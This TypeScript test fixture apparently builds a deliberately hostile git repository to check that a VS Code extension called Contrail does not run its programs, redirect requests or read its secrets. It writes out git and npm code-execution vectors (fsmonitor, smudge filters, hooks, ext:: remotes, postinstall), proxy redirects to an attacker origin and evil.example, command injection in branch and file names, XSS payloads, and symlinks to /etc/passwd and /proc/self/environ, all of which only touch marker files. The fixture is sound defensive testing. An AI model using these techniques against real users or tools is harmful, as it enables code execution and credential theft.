// Creates a malicious git repository that tries to redirect requests, run programs and read files.
// If one of its programs runs, it creates an empty marker file, which a test detects.
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { GitRepository } from './gitRepository.ts';
import { root } from './setup/paths.mjs';

/**
 * The name of the marker file that a shell creates in the current folder if it runs the name of a branch or of a file.
 * It has no leading dot, because no part of a branch name may start with a dot.
 */
const MARKER_FILE = 'marked';

interface Manifest {
  readonly contributes: {
    readonly configuration: readonly {
      readonly properties: Readonly<Record<string, { readonly type: string; readonly enum?: readonly string[] }>>;
    }[];
  };
}

/** Settings of VS Code that redirect requests or run a program if VS Code reads them from a folder. */
function vscodeSettings(attackerOrigin: string, program: string, shell = program): Readonly<Record<string, unknown>> {
  return {
    'http.proxy': attackerOrigin,
    'http.proxyStrictSSL': false,
    'http.proxySupport': 'override',
    'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
    'http.noProxy': [],
    'http.systemCertificates': false,
    'git.path': program,
    'git.terminalAuthentication': true,
    'task.allowAutomaticTasks': 'on',
    'terminal.integrated.env.linux': { HTTPS_PROXY: attackerOrigin, BASH_ENV: shell },
    'terminal.integrated.automationProfile.linux': { path: shell },
    'markdown.styles': [`${attackerOrigin}/style.css`],
    'security.workspace.trust.enabled': false,
  };
}

/**
 * Returns malicious values for all settings of Contrail that are not an enum, for some settings that Contrail does not
 * have, and for settings of VS Code.
 */
export function hostileSettings(
  attackerOrigin: string,
  program: string,
  shell = program,
): Readonly<Record<string, unknown>> {
  const { contributes }: Manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
  const settings = contributes.configuration
    .flatMap(({ properties }) => Object.entries(properties))
    .filter(([, setting]) => setting.enum === undefined);
  const existingSettings = settings.map(([id, { type }]): [string, unknown] => [
    id,
    type === 'boolean' ? true : attackerOrigin,
  ]);
  const inventedSettings = ['server', 'baseUrl', 'url', 'apiKey', 'token', 'proxy', 'ca'].map(
    (name): [string, unknown] => [`contrail.${name}`, attackerOrigin],
  );
  return {
    ...Object.fromEntries([...existingSettings, ...inventedSettings]),
    ...vscodeSettings(attackerOrigin, program, shell),
  };
}

export interface HostileOptions {
  /** The origin of the server to which the repository tries to redirect requests. */
  readonly attackerOrigin: string;
  /** A folder outside of the repository, in which each program that runs creates its marker file. */
  readonly markerFolder: string;
  /** A text in the files that Contrail must not read: `.env`, and a file that a symbolic link points to. */
  readonly secret: string;
  /** The identifier of a work item, which the files mention. */
  readonly identifier: string;
}

/** Creates the repository in a folder, which may contain files. */
export function makeHostileRepository(
  folder: string,
  { attackerOrigin, markerFolder, secret, identifier }: HostileOptions,
): GitRepository {
  mkdirSync(markerFolder, { recursive: true });
  const markerPath = (name: string): string => join(markerFolder, name);
  const program = writeProgram(markerFolder, 'program');
  const shell = writeProgram(markerFolder, 'vscode-shell');
  const repository = GitRepository.createEmpty(folder);
  repository.write('.vscode/settings.json', JSON.stringify(hostileSettings(attackerOrigin, program, shell)));
  writePrograms(repository, attackerOrigin, program, markerPath);
  writeText(repository, { attackerOrigin, markerFolder, secret, identifier });
  writeLinks(folder, join(markerFolder, '..', 'outside'), secret, identifier);
  repository.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${markerPath('message')})`);
  writeConfiguration(repository, markerPath);
  writeBranches(repository, identifier);
  return repository;
}

/** Returns the names of all marker files, in `markerFolder` and in the repository. */
export function markerFilesIn(markerFolder: string, repository: string): string[] {
  return [...readdirSync(markerFolder), ...readdirSync(repository).filter((name) => name === MARKER_FILE)].sort();
}

/** Writes a shell script that creates a marker file, and returns the path of the script. */
function writeProgram(markerFolder: string, name: string): string {
  const file = join(markerFolder, '..', `${name}.sh`);
  writeFileSync(file, `#!/bin/sh\ntouch '${join(markerFolder, name)}'\n`);
  chmodSync(file, 0o755);
  return file;
}

/** Writes configuration files that make tools run programs. VS Code runs the tasks when the user trusts the folder. */
function writePrograms(
  repository: GitRepository,
  attackerOrigin: string,
  program: string,
  markerPath: (name: string) => string,
): void {
  const shell = (name: string) => ({
    label: name,
    type: 'shell',
    command: `touch '${markerPath(`vscode-${name}`)}'`,
    runOptions: { runOn: 'folderOpen' },
  });
  repository.write(
    '.vscode/tasks.json',
    JSON.stringify({ version: '2.0.0', tasks: [shell('task'), { ...shell('build'), group: 'build' }] }),
  );
  repository.write(
    '.vscode/launch.json',
    JSON.stringify({
      configurations: [{ type: 'node', request: 'launch', name: 'go', program, preLaunchTask: 'task' }],
    }),
  );
  repository.write('.vscode/extensions.json', JSON.stringify({ recommendations: ['evil.evil'] }));
  repository.write(
    'package.json',
    JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }),
  );
  repository.write('.npmrc', `registry=${attackerOrigin}/\nproxy=${attackerOrigin}\nscript-shell=${program}\n`);
  repository.write('.gitattributes', '*.md filter=evil diff=evil\n');
  repository.write('.editorconfig', 'root = true\n');
}

function writeText(
  repository: GitRepository,
  { attackerOrigin, markerFolder, secret, identifier }: HostileOptions,
): void {
  repository.write(
    '.env',
    `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${attackerOrigin}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
  );
  const text = [
    `# ${identifier}](command:contrail.signOut) and [${identifier}](command:workbench.action.terminal.new)`,
    `${identifier}<img src="${attackerOrigin}/${identifier}.png" onerror="fetch('${attackerOrigin}')">`,
    `![${identifier}](${attackerOrigin}/pixel.png) <a href="command:workbench.action.quit">${identifier}</a>`,
    `vscode://contrail.contrail/open?server=${attackerOrigin}&workspace=acme&item=${identifier}`,
    `TODO(${identifier}): $(touch ${join(markerFolder, 'text')}) \`touch ${join(markerFolder, 'text')}\``,
    `$(${identifier}) \${command:contrail.signOut} {{${identifier}}} \u202e${identifier}\u202c`,
    '',
  ].join('\n');
  for (const name of [
    'notes.md',
    'code.py',
    'command:contrail.signOut.md',
    '[link](command:contrail.signOut).md',
    'with\nnewline.md',
    `quote"'\`.md`,
    `$(touch ${MARKER_FILE}).md`,
    '-rf.md',
    '<img src=x onerror=alert(1)>.md',
    'right\u202eto-left.md',
    '%2e%2e%2f.md',
  ]) {
    repository.write(name, text);
  }
}

/** Writes symbolic links to files outside of the repository, to system files, and to the folder itself (a cycle). */
function writeLinks(folder: string, outside: string, secret: string, identifier: string): void {
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, 'outside.md'), `${identifier} ${secret}\n`);
  for (const [name, target] of [
    ['linked.md', join(outside, 'outside.md')],
    ['linked', outside],
    ['passwd.md', '/etc/passwd'],
    ['environ.md', '/proc/self/environ'],
    ['endless.md', '/dev/zero'],
    ['ring', '.'],
  ] as const) {
    symlinkSync(target, join(folder, name));
  }
}

/** Configures git to run programs. VS Code's git extension ignores the repository until the user trusts the folder. */
function writeConfiguration(repository: GitRepository, markerPath: (name: string) => string): void {
  const touch = (name: string): string => `touch '${markerPath(`git-${name}`)}'`;
  repository.addRemote('origin', `ext::sh -c touch% ${markerPath('remote')}`);
  repository.addRemote('other', `https://mara:token@evil.example/$(touch\${IFS}${markerPath('url')}).git`);
  repository.run('config', 'core.fsmonitor', `${touch('fsmonitor')}; false`);
  repository.run('config', 'core.sshCommand', touch('ssh'));
  repository.run('config', 'filter.evil.smudge', `${touch('filter')}; cat`);
  repository.run('config', 'protocol.ext.allow', 'always');
  const hooks = join(repository.folder, '.git', 'hooks');
  mkdirSync(hooks, { recursive: true });
  for (const hook of ['post-checkout', 'pre-commit', 'post-index-change', 'reference-transaction']) {
    writeFileSync(join(hooks, hook), `#!/bin/sh\n${touch(hook)}\n`);
    chmodSync(join(hooks, hook), 0o755);
  }
}

/**
 * Writes branches with names that git accepts, but that a shell or a page may interpret as code or markup, or git as an
 * option. The first branch is checked out.
 */
function writeBranches(repository: GitRepository, identifier: string): void {
  const touch = `touch\${IFS}${MARKER_FILE}`;
  const names = [
    `${identifier}-$(${touch})`,
    `${identifier};${touch};`,
    `${identifier}|${touch}`,
    `\`${touch}\``,
    `--upload-pack=${touch}`,
    '-b',
    `"${identifier}"`,
    `${identifier}<img/src=x>`,
    `${identifier}&${touch}`,
    `${identifier.replace('W', 'Ш')}-пр\u0430во`,
  ];
  const head = repository.head;
  // Writes the ref files directly, because git would run the hooks that `writeConfiguration` has written.
  for (const name of names) {
    const file = join(repository.folder, '.git', 'refs', 'heads', ...name.split('/'));
    mkdirSync(join(file, '..'), { recursive: true });
    writeFileSync(file, `${head}\n`);
  }
  repository.setHead(names[0] ?? '');
}
